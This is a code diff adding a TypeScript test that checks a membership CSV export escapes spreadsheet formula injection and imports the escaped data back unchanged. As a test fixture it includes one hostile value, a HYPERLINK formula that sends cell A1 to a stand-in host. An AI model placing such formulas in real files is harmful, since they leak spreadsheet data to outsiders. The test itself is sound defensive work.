@@ -260,3 +260,30 @@ describe('a large file', () => {
 function rowsOf(rows: string[][]) {
   return rows.map((cells, i) => ({ row: i + 1, cells }));
 }
+
+describe('a CSV export opened in a spreadsheet', () => {
+  it('writes cells that would run as formulas as text (OWASP), and reads them back unchanged', async () => {
+    const evil = '=HYPERLINK("http://x.example/?"&A1;"klik")';
+    await importMembership(deps, {
+      file: await writeXlsx('formula.xlsx', [
+        NL,
+        ['SBO', evil, '', 'Gemeente Aalten', '', 'lid', '2025-01-01', '', 'ja', ''],
+        ['ORO', '-Streep', '', 'Gemeente Berkelland', '', 'lid', '2025-01-01', '', '', ''],
+      ]),
+      actor,
+    });
+    expect(await deps.db.seat.count()).toBe(2);
+    const file = path.join(dir, 'formula.csv');
+    await exportMembership(deps, { file });
+    const text = await fs.readFile(file, 'utf8');
+    const cells = text.split('\n').flatMap((line) => line.split(';'));
+    expect(cells.some((c) => /^"?[=+\-@]/.test(c))).toBe(false);
+    expect(text).toContain(`'=HYPERLINK`);
+    expect(text).toContain(`'-Streep`);
+    const before = await counts();
+    const result = await importMembership(deps, { file, actor });
+    expect(result.ok && result.value.unchanged).toBe(2);
+    expect(await counts()).toEqual(before);
+    expect(await deps.db.person.count({ where: { name: evil } })).toBe(1);
+  });
+});
